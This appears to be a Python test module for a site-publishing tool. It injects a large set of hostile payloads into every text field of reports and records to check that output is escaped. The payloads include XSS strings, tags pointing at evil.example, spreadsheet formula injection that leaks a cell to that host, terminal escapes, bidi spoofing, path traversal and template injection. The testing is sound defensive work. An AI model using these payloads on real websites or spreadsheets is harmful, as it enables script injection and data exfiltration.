"""Text that tries to be more than text, and a record in which it stands in every place where a report can put words."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from zlib import crc32

import msgspec
from msgspec.structs import replace
from tests.conftest import Valley

from spolia.knowledge.tables import bundled
from spolia.publish.about import SiteAbout
from spolia.publish.deeds import Deed
from spolia.publish.site import publish_site
from spolia.records import Claim, InterestSpell, Party, Rating, Record, Report, Unread
from spolia.statements import statement_of
from spolia.weigh.transmission import trace_record

PAYLOADS = {
    "script": "<script>window.hacked=1</script>",
    "script that ends ours": "</script><script>window.hacked=2</script>",
    "event handler": "<img src=x onerror=window.hacked=3>",
    "handler out of an attribute": "\" onmouseover=\"window.hacked=4\" autofocus onfocus=window.hacked=4 x=\"",
    "handler out of quotes": "' onfocus='window.hacked=5' autofocus='",
    "address that runs": "javascript:window.hacked=6//",
    "address of data": "data:text/html,<script>parent.hacked=7</script>",
    "picture with a script": "<svg/onload=window.hacked=8><animate onbegin=window.hacked=8 attributeName=x dur=1s>",
    "out of a picture": "</text></svg><svg><style><img src=x onerror=window.hacked=9></style></svg>",
    "out of formulas": "<math><mtext><table><mglyph><style><!--</style><img src onerror=window.hacked=10>",
    "out of a title": "</title></textarea></noscript><iframe srcdoc='<script>parent.hacked=11</script>'></iframe>",
    "base and meta": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example/a.css>",
    "form elsewhere": "<form action=//evil.example><button autofocus formaction=javascript:window.hacked=12>x</button></form>",
    "style": "<style>@import '//evil.example/a.css';*{display:none}</style><p style='position:fixed;inset:0'>",
    "formula =": "=HYPERLINK(\"http://evil.example?\"&A1,\"open\")",
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1\tx",
    "formula after a line end": "\r=1+1\r\n=2+2",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b31m\x90q\x9c",
    "bidi": "\u202egpj.exe\u202c \u2066a\u2067b\u2069 \u061c\u200f",
    "zero width": "ta\u200bn\u200ck\u2060s\ufeff",
    "null": "a\x00b\x08c\x7f",
    "long word": "W" * 5000,
    "path": "../../../../etc/passwd\\..\\..\\CON.html%2e%2e%2f",
    "lines": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "comment": "<!-- --!> --> <![CDATA[ x ]]> <?php x ?> [click](javascript:window.hacked=13) `x`",
    "braces": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    "entities": "&lt;script&gt;&#60;img src=x onerror=window.hacked=14&#62;&amp;lt;&nbsp",
    "look-alikes": "Ρаӏmyга \uff1cscript\uff1e \U000e0041\U000e0042\ufff9a\ufffa",
    "log line": "x\n2031-03-12 INFO spolia: kept 0000 all is well\nspolia: done",
}  # fmt: skip
PLAIN = "plainword"  # what harms nobody, to compare with

# Fields that are one of a few words, a day or a hash: nothing that a report wrote comes into them.
_NO_TEXT = frozenset(
    "kind certainty stance realis basis slot how category status quantity reliability start end published published_bounds sha256 date inferred".split()
)
Choose = Callable[[str], str]


def all_plain(_: str) -> str:
    return PLAIN


def rotated(by: int) -> Choose:
    """For each text one of the payloads, another one for each `by`: over as many as there are payloads every text gets every one."""
    payloads = list(PAYLOADS.values())
    return lambda text: payloads[(crc32(text.encode("utf-8", "surrogatepass")) + by) % len(payloads)]


def _planted(value: Any, choose: Choose, key: str = "") -> Any:
    """The value with a payload before and behind every text of it, the same for the same text."""
    if isinstance(value, str):
        payload = choose(value)
        return value if key in _NO_TEXT else f"{payload}{value}{payload}" if len(payload) < 1000 else value + payload
    if isinstance(value, dict):
        return {name: _planted(part, choose, name) for name, part in value.items()}
    return [_planted(part, choose, key) for part in value] if isinstance(value, list | tuple) else value


def plant(valley: Valley, choose: Choose) -> Valley:
    """The valley with a payload in each id, name, title, source, address, text, quote, number's unit, reason and remark."""
    reports = []
    quotes: dict[str, list[str]] = {}
    for report in valley.reports:
        own = [claim for claim in valley.claims if claim.report == report.id]
        quotes[report.id] = [choose(claim.id) for claim in own] or [choose(report.id)]
        given = _planted(msgspec.to_builtins(report), choose)
        reports.append(msgspec.convert(given | {"text": " ".join(quotes[report.id])}, Report))
    claims = []
    for report in valley.reports:
        at = 0
        for claim, quote in zip([claim for claim in valley.claims if claim.report == report.id], quotes[report.id], strict=False):
            given = _planted(msgspec.to_builtins(claim), choose) | {"evidence": {"start": at, "end": at + len(quote), "quote": quote}}
            claims.append(msgspec.convert(given, Claim))
            at += len(quote) + 1
    record = msgspec.convert(_planted(msgspec.to_builtins(valley.record), choose), Record)
    words = choose("about")
    unread = Unread(report=reports[-1].id, start=0, end=len(reports[-1].text), words=[words], why=words)
    about = SiteAbout(
        words, words, head=words, unread=(unread,), missing=(words,), policy=(words,), deeds=_deeds(claims, reports, words), rejected=(_rejected(claims[0]),)
    )  # fmt: skip
    return Valley(record, claims, reports, about)


def _rejected(claim: Claim) -> Claim:
    return replace(claim, id=f"{claim.id}-rejected")


def _deeds(claims: list[Claim], reports: list[Report], words: str) -> tuple[Deed, ...]:
    """What people decided, with the payload in whose it is and why, and in what was read."""
    said = statement_of(claims[0])
    was = replace(said, actor=[Party(text=words, name=words)], speaker=Party(text=words, name=None))
    about: dict[str, Any] = {"at": "2026-12-01T10:00:00+00:00", "state": "disputed", "by": words, "note": words}
    on_claim: dict[str, Any] = {"claims": [claims[0].id], "report": claims[0].report}
    rating = Rating(source=reports[0].source or "", reliability="D", interests=[InterestSpell(party=words)])
    return (
        Deed(id="d-1", action="correct", was=was, now=said, **on_claim, **about),
        Deed(id="d-2", action="confirm", of="d-1", **about),
        Deed(id="d-3", action="reject", **on_claim | {"claims": [_rejected(claims[0]).id]}, was=was, **about),
        Deed(id="d-4", action="rate", rating=rating, **about),
    )


def publish_planted(valley: Valley, folder: Path) -> list[Path]:
    stories = trace_record(valley.record, valley.claims, valley.reports, bundled())
    return publish_site(valley.record, valley.claims, valley.reports, folder, about=valley.about, known=bundled(), stories=stories)


def write_hostile_reports(folder: Path, by: int = 0) -> list[Path]:
    """Files of reports that tell of happenings, with payloads in their names and in all that they say: one file of many, others with hostile names."""
    choose = rotated(by)
    rows = []
    for number, payload in enumerate(PAYLOADS.values()):
        text = (
            f"Rebels of the {payload} Brigade took Palmyra on 11 December 2016, {payload} said. "
            f"The {payload} army destroyed 3 {payload} tanks near Homs on {1 + number % 28} May 2016. {payload}"
        )
        rows.append(
            {"id": f"r{number}{payload}"[:180], "source": choose(f"s{number}"), "title": payload, "url": choose(f"u{number}"), "text": text}
        )
    lines = folder / "r.jsonl"
    lines.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    paths = [lines]
    for name in ("evil\x1b[31m\u202egpj.txt", "=cmd|calc.txt", "<img src=x onerror=window.hacked=20>.txt", "two\nlines.txt", "-o.txt"):
        path = folder / name
        path.write_text("Rebels took Palmyra on 11 December 2016.\n" + name, "utf-8")
        paths.append(path)
    return paths
